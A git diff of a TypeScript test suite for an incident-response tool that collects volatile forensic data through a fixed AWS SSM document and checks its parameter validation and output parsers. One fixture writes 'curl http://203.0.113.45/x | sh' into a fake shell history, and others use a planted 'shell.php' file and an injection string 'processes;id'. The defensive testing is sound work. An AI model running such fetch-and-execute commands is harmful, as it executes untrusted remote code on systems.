@@ -1,7 +1,9 @@
 /**
- * The volatile catalogue: fixed commands, strict validation of its only two variables, and
- * parsers checked against real output (the commands are run here, under the same `sh` that
- * AWS-RunShellScript uses, where the tool exists on this machine).
+ * The volatile catalogue: the parameters sent for each item (the commands are branches of the
+ * fixed SSM document incident-collect-volatile), strict validation of its only two variables, and
+ * parsers checked against real output: the document's script is run here the way the SSM agent
+ * runs it (a script file under `sh`, the parameters as SSM_<name> environment variables), where
+ * the tool exists on this machine.
  */
 import { execFileSync, spawnSync } from 'node:child_process';
 import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
@@ -9,6 +11,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { checkSsmParameters, SSM_DOCUMENTS, ssmDocument } from '../../../src/aws/ssmDocuments.js';
 import { ValidationError } from '../../../src/errors.js';
 import {
   FIXED_VOLATILE_ITEMS,
@@ -23,22 +26,48 @@ import {
   VOLATILE_ITEM_IDS,
   volatileItem,
   volatileItems,
-  webRecentFilesCommand,
+  WEB_FILES_MAX_LINES,
+  webRecentFilesParameters,
+  type VolatileItemId,
 } from '../../../src/pipeline/forensics/volatileCommands.js';
 
 const PARAMS = { webRoots: ['/var/www'], modifiedWithinMinutes: 1440 };
+const DOCUMENT = ssmDocument(SSM_DOCUMENTS.collectVolatile);
+const SCRIPT = DOCUMENT.content.mainSteps[0]!.inputs.runCommand.join('\n');
+
+/** The document's branch for one item: the text between `<id>)` and its `;;`. */
+function branch(id: string, script = SCRIPT): string {
+  const start = script.indexOf(`\n  ${id})\n`);
+  if (start < 0) throw new Error(`no branch for ${id}`);
+  return script.slice(start, script.indexOf('\n    ;;', start));
+}
 
 function sh(command: string, env: NodeJS.ProcessEnv = process.env): { stdout: string; stderr: string; status: number | null } {
   const r = spawnSync('sh', ['-c', command], { encoding: 'utf8', env, maxBuffer: 64 * 1024 * 1024 });
   return { stdout: r.stdout, stderr: r.stderr, status: r.status };
 }
 
+let scriptDir: string | undefined;
+/** Runs the document's script as the agent does: a script file under sh, parameters as SSM_ variables (defaults included). */
+function runItem(parameters: Record<string, string>, env: NodeJS.ProcessEnv = process.env, script = SCRIPT): { stdout: string; stderr: string; status: number | null } {
+  scriptDir ??= mkdtempSync(join(tmpdir(), 'volatile-doc-'));
+  const file = join(scriptDir, `_script-${Math.random().toString(36).slice(2)}.sh`);
+  writeFileSync(file, script);
+  const defaults = Object.fromEntries(Object.entries(DOCUMENT.content.parameters ?? {}).flatMap(([k, p]) => (p.default === undefined ? [] : [[`SSM_${k}`, p.default]])));
+  const vars = Object.fromEntries(Object.entries(checkSsmParameters(DOCUMENT, parameters)).map(([k, [v]]) => [`SSM_${k}`, v!]));
+  const r = spawnSync('sh', [file], { encoding: 'utf8', env: { ...env, ...defaults, ...vars }, maxBuffer: 64 * 1024 * 1024 });
+  return { stdout: r.stdout, stderr: r.stderr, status: r.status };
+}
+afterAll(() => {
+  if (scriptDir) rmSync(scriptDir, { recursive: true, force: true });
+});
+
 function hasTool(name: string): boolean {
   return sh(`command -v ${name} >/dev/null 2>&1`).status === 0;
 }
 
 describe('the catalogue', () => {
-  it('has every required item, each with a description and fixed command text', () => {
+  it('has every required item, each with a description and the parameters that name it', () => {
     expect([...VOLATILE_ITEM_IDS].sort()).toEqual(
       [
         'processes',
@@ -59,39 +88,45 @@ describe('the catalogue', () => {
     expect(items.map((i) => i.id)).toEqual([...VOLATILE_ITEM_IDS]);
     for (const item of items) {
       expect(item.description.length).toBeGreaterThan(10);
-      expect(item.command.length).toBeGreaterThan(0);
-      // Fixed items are the same text whatever the parameters.
+      // Fixed items send only their name, whatever the parameters.
       if (item.id !== 'web-recent-files') {
-        expect(volatileItem(item.id, { webRoots: ['/srv/other'], modifiedWithinMinutes: 5 }).command).toBe(item.command);
-        expect(item.command).toBe(FIXED_VOLATILE_ITEMS[item.id].command);
+        expect(item.parameters).toEqual({ item: item.id });
+        expect(volatileItem(item.id, { webRoots: ['/srv/other'], modifiedWithinMinutes: 5 }).parameters).toEqual({ item: item.id });
       }
+      // The document accepts what is sent.
+      expect(() => checkSsmParameters(DOCUMENT, item.parameters)).not.toThrow();
     }
+    expect(volatileItem('web-recent-files', { webRoots: ['/var/www/', '/srv/app', '/var/www'], modifiedWithinMinutes: 90 }).parameters).toEqual({
+      item: 'web-recent-files',
+      webRoots: '/var/www /srv/app',
+      modifiedWithinMinutes: '90',
+    });
   });
 
-  it('uses the commands the collection is specified with', () => {
-    const byId = Object.fromEntries(volatileItems(PARAMS).map((i) => [i.id, i.command]));
-    expect(byId.processes).toContain('ps -e -ww -o pid,ppid,user:32,lstart,args --no-headers');
-    expect(byId['network-connections']).toContain('ss -tanp');
-    expect(byId['listening-sockets']).toContain('ss -tulnp');
-    expect(byId['logged-in-users']).toBe('who -a');
-    expect(byId['last-logins']).toContain('last -Fw -n 50');
-    expect(byId['shell-histories']).toContain('/root/.bash_history /root/.zsh_history /root/.ash_history /home/*/.bash_history');
-    for (const log of ['/var/log/auth.log', '/var/log/secure', '/var/log/syslog', '/var/log/messages', 'journalctl']) expect(byId['recent-logs']).toContain(log);
-    for (const cron of ['/etc/crontab', '/etc/cron.d/*', '/etc/cron.daily/*', '/var/spool/cron/*']) expect(byId.crontabs).toContain(cron);
-    expect(byId['authorized-keys']).toContain('/root/.ssh/authorized_keys /root/.ssh/authorized_keys2 /home/*/.ssh/authorized_keys');
-    expect(byId['kernel-modules']).toBe('lsmod');
-    expect(byId['deleted-binaries']).toBe("ls -l /proc/[0-9]*/exe 2>/dev/null | grep -F '(deleted)' || true");
-    expect(byId['web-recent-files']).toBe(
-      "for r in '/var/www'; do if [ -d \"$r\" ]; then find \"$r\" -xdev -type f -mmin -1440 -printf '%T@ %s %m %u %p\\n' 2>/dev/null | sort -rn | head -n 5000; else printf 'sentinel: %s is not a directory\\n' \"$r\" >&2; fi; done; true",
+  it('has exactly one branch in the document per item, and the document accepts no other item', () => {
+    const branches = [...SCRIPT.matchAll(/^ {2}([a-z-]+)\)$/gm)].map((m) => m[1]);
+    expect(branches).toEqual([...VOLATILE_ITEM_IDS]);
+    const item = new RegExp(DOCUMENT.content.parameters!.item!.allowedPattern);
+    for (const id of VOLATILE_ITEM_IDS) expect(item.test(id)).toBe(true);
+    for (const other of ['memory', 'processes2', 'processes;id', '']) expect(item.test(other)).toBe(false);
+    expect(runItem({ item: 'processes' }, process.env, SCRIPT.replace('\n  processes)\n', '\n  nothing)\n')).status).toBe(2);
+  });
+
+  it('runs the commands the collection is specified with', () => {
+    expect(branch('processes')).toContain('ps -e -ww -o pid,ppid,user:32,lstart,args --no-headers');
+    expect(branch('network-connections')).toContain('ss -tanp');
+    expect(branch('listening-sockets')).toContain('ss -tulnp');
+    expect(branch('logged-in-users').trim()).toBe('logged-in-users)\n    who -a');
+    expect(branch('last-logins')).toContain('last -Fw -n 50');
+    expect(branch('shell-histories')).toContain('/root/.bash_history /root/.zsh_history /root/.ash_history /home/*/.bash_history');
+    for (const log of ['/var/log/auth.log', '/var/log/secure', '/var/log/syslog', '/var/log/messages', 'journalctl']) expect(branch('recent-logs')).toContain(log);
+    for (const cron of ['/etc/crontab', '/etc/cron.d/*', '/etc/cron.daily/*', '/var/spool/cron/*']) expect(branch('crontabs')).toContain(cron);
+    expect(branch('authorized-keys')).toContain('/root/.ssh/authorized_keys /root/.ssh/authorized_keys2 /home/*/.ssh/authorized_keys');
+    expect(branch('kernel-modules').trim()).toBe('kernel-modules)\n    lsmod');
+    expect(branch('deleted-binaries')).toContain("ls -l /proc/[0-9]*/exe 2>/dev/null | grep -F '(deleted)' || true");
+    expect(branch('web-recent-files')).toContain(
+      `find "$r" -xdev -type f -mmin "-$SSM_modifiedWithinMinutes" -printf '%T@ %s %m %u %p\\n' 2>/dev/null | sort -rn | head -n ${WEB_FILES_MAX_LINES}`,
     );
-  });
-
-  it('every command is valid POSIX sh (dash -n)', () => {
-    const shell = hasTool('dash') ? 'dash' : 'sh';
-    for (const item of volatileItems({ webRoots: ['/var/www', '/srv/app/public'], modifiedWithinMinutes: 30 })) {
-      const r = spawnSync(shell, ['-n', '-c', item.command], { encoding: 'utf8' });
-      expect({ id: item.id, status: r.status, stderr: r.stderr }).toEqual({ id: item.id, status: 0, stderr: '' });
-    }
   });
 
   it('selects a subset in catalogue order, without duplicates', () => {
@@ -137,22 +172,23 @@ describe('web roots and minutes: the only variables', () => {
     expect(validateModifiedWithinMinutes(43_200)).toBe(43_200);
   });
 
-  it('any accepted root appears only single-quoted, and the command text is otherwise fixed', () => {
+  it('any accepted root is sent as is (space-separated, deduplicated) and passes the document pattern; anything else never leaves', () => {
     const segment = fc.stringMatching(/^[A-Za-z0-9._-]{1,12}$/).filter((s) => s !== '.' && s !== '..');
     const root = fc.array(segment, { minLength: 1, maxLength: 4 }).map((s) => `/${s.join('/')}`);
+    const pattern = new RegExp(DOCUMENT.content.parameters!.webRoots!.allowedPattern);
     fc.assert(
       fc.property(fc.array(root, { minLength: 1, maxLength: 3 }), fc.integer({ min: 1, max: 43_200 }), (roots, minutes) => {
-        const command = webRecentFilesCommand(roots, minutes);
-        const unique = [...new Set(roots)];
-        const template = webRecentFilesCommand(['/x'], 1).replace("'/x'", unique.map((r) => `'${r}'`).join(' ')).replace('-mmin -1 ', `-mmin -${minutes} `);
-        expect(command).toBe(template);
+        const parameters = webRecentFilesParameters(roots, minutes);
+        expect(parameters).toEqual({ item: 'web-recent-files', webRoots: [...new Set(roots)].join(' '), modifiedWithinMinutes: String(minutes) });
+        expect(pattern.test(parameters.webRoots!)).toBe(true);
+        expect(() => checkSsmParameters(DOCUMENT, parameters)).not.toThrow();
       }),
     );
     // And anything with a shell character never gets through.
     fc.assert(
       fc.property(fc.string({ minLength: 1, maxLength: 30 }), (s) => {
         const candidate = `/var/${s}`;
-        if (/[^A-Za-z0-9._/-]/.test(s)) expect(() => webRecentFilesCommand([candidate], 60)).toThrow(ValidationError);
+        if (/[^A-Za-z0-9._/-]/.test(s)) expect(() => webRecentFilesParameters([candidate], 60)).toThrow(ValidationError);
       }),
     );
   });
@@ -177,8 +213,7 @@ describe('commands run under sh, parsed', () => {
     utimesSync(join(root, 'index.php'), now - 600, now - 600);
     utimesSync(join(root, 'uploads', 'shell.php'), now - 60, now - 60);
 
-    const command = webRecentFilesCommand([root, join(dir, 'missing')], 1440);
-    const r = sh(command);
+    const r = runItem(webRecentFilesParameters([root, join(dir, 'missing')], 1440));
     expect(r.status).toBe(0);
     expect(r.stderr).toContain(`sentinel: ${join(dir, 'missing')} is not a directory`);
     const files = parseModifiedFiles(r.stdout);
@@ -188,7 +223,7 @@ describe('commands run under sh, parsed', () => {
   });
 
   it('processes: real ps output parses, including this test process with its full command line', () => {
-    const r = sh(FIXED_VOLATILE_ITEMS.processes.command);
+    const r = runItem({ item: 'processes' });
     expect(r.status).toBe(0);
     const procs = parseProcesses(r.stdout);
     expect(procs.length).toBeGreaterThan(1);
@@ -204,7 +239,7 @@ describe('commands run under sh, parsed', () => {
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
     const port = (server.address() as { port: number }).port;
     try {
-      const r = sh(FIXED_VOLATILE_ITEMS['listening-sockets'].command);
+      const r = runItem({ item: 'listening-sockets' });
       expect(r.status).toBe(0);
       const sockets = parseSockets(r.stdout);
       const mine = sockets.find((s) => s.local === `127.0.0.1:${port}`);
@@ -218,8 +253,10 @@ describe('commands run under sh, parsed', () => {
   it('the fixed commands that find nothing still exit 0 (so a non-zero exit means the collection failed)', () => {
     const env = { ...process.env, PATH: '/usr/bin:/bin' };
     for (const id of ['shell-histories', 'authorized-keys', 'deleted-binaries', 'last-logins'] as const) {
-      expect({ id, status: sh(FIXED_VOLATILE_ITEMS[id].command, env).status }).toEqual({ id, status: 0 });
+      expect({ id, status: runItem({ item: id }, env).status }).toEqual({ id, status: 0 });
     }
+    // Every fixed item is in the catalogue the action sends from.
+    expect(Object.keys(FIXED_VOLATILE_ITEMS).sort()).toEqual(VOLATILE_ITEM_IDS.filter((i): i is Exclude<VolatileItemId, 'web-recent-files'> => i !== 'web-recent-files').sort());
   });
 });
 
@@ -260,13 +297,13 @@ describe('parsers on recorded output', () => {
   it('shell-histories reports a history symlinked to /dev/null instead of following it', () => {
     const home = mkdtempSync(join(tmpdir(), 'hist-'));
     try {
-      // The real command reads /root and /home; run the same loop text against a stand-in tree.
-      const command = FIXED_VOLATILE_ITEMS['shell-histories'].command.replaceAll('/root/', `${home}/root/`).replaceAll('/home/', `${home}/home/`);
+      // The real branch reads /root and /home; run the same document text against a stand-in tree.
+      const script = SCRIPT.replaceAll('/root/', `${home}/root/`).replaceAll('/home/', `${home}/home/`);
       mkdirSync(join(home, 'root'), { recursive: true });
       mkdirSync(join(home, 'home', 'bob'), { recursive: true });
       writeFileSync(join(home, 'root', '.bash_history'), 'curl http://203.0.113.45/x | sh\n');
       execFileSync('ln', ['-s', '/dev/null', join(home, 'home', 'bob', '.bash_history')]);
-      const r = sh(command);
+      const r = runItem({ item: 'shell-histories' }, process.env, script);
       expect(r.status).toBe(0);
       expect(r.stdout).toContain('curl http://203.0.113.45/x | sh');
       expect(parseSections(r.stdout)).toEqual([
